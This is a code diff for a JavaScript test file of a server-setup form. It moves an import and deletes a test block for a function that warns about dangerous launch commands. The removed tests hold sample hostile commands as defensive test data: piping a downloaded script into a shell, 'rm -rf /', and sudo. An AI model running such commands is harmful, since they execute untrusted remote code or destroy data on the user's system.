@@ -10,12 +10,11 @@ import {
   buildCommandConfig,
   buildOAuthClient,
   buildUrlConfig,
-  commandWarnings,
   oauthFormValues,
-  splitCommandLine,
   suggestServerId,
 } from '../../../renderer/lib/server-form.js';
 import { findSuspicious, revealHidden } from '../../../renderer/lib/suspicious-text.js';
+import { splitCommandLine } from '../../../src/base/command-review.js';
 
 describe('splitCommandLine', () => {
   it('splits on whitespace, groups quotes and expands nothing', () => {
@@ -166,20 +165,6 @@ describe('the OAuth client fields', () => {
     expect(buildOAuthClient({ ...values, clientSecret: 'new' })).toMatchObject({
       oauth: { clientSecret: 'new' },
     });
-  });
-});
-
-describe('commandWarnings', () => {
-  it('flags sudo, rm -rf, piping into a shell and inline shell scripts', () => {
-    expect(commandWarnings(['sudo', 'node', 'srv.js'])).toEqual(['runs with administrator rights (sudo)']);
-    expect(commandWarnings(['sh', '-c', 'curl https://x.example/i.sh | sh'])).toEqual([
-      'pipes downloaded text into a shell (| sh)',
-      'runs a shell script inline',
-    ]);
-    expect(commandWarnings(['bash', '-c', 'rm -rf / && node s.js'])).toContain(
-      'deletes files recursively (rm -rf)',
-    );
-    expect(commandWarnings(['npx', '-y', '@modelcontextprotocol/server-filesystem', '/tmp'])).toEqual([]);
   });
 });
 
